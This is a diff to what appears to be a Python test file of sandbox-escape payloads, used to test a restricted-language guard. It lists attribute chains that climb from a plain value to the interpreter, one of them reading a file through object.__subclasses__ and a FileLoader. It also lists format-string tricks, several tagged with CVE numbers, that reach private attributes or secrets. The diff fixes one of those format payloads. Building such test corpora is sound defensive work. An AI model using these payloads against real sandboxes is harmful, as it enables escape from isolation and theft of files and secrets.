@@ -4,6 +4,9 @@ from __future__ import annotations
 
 from tests.attacks.language.payloads import Family
 
+# One attack a line.
+# fmt: off
+
 syntax = Family("attribute", "Attribute chains from a plain value to the interpreter.")
 a = syntax.add
 a("compiler", "file", "subclasses of object, then a loader", "classic", "for c in ().__class__.__base__.__subclasses__():\n    if c.__name__ == 'FileLoader':\n        return c('x', '@FILE@').get_data('@FILE@')")
@@ -119,7 +122,7 @@ a("guard", "secret", "format stored in a variable first", "CVE-2025-27516 relati
 a("guard", "secret", "format through methodcaller", "operator", "return operator.methodcaller('format', self)('{0.__class__}')", "import operator")
 a("guard", "secret", "format through attrgetter", "operator", "return operator.attrgetter('format')('{0.__class__}')(self)", "import operator")
 a("guard", "secret", "format through partial of the type's function", "functools", "return functools.partial(str.format, '{0._run}')(self)", "import functools")
-a("guard", "secret", "attribute in a nested specification", "CVE-2023-41039", "return '{:{0.__class__}}'.format(1, self)")
+a("guard", "secret", "attribute in a nested specification", "CVE-2023-41039", "return '{1:{0.__class__}}'.format(self, 1)")
 a("guard", "secret", "attribute in a nested specification by keyword", "CVE-2023-41039", "return '{x:{y.__class__}}'.format(x=1, y=self)")
 a("guard", "secret", "attribute after an item", "CVE-2023-41039", "return '{0[0].__class__}'.format([self])")
 a("guard", "secret", "attribute with a conversion", "CVE-2023-41039", "return '{0.__dict__!r}'.format(self)")
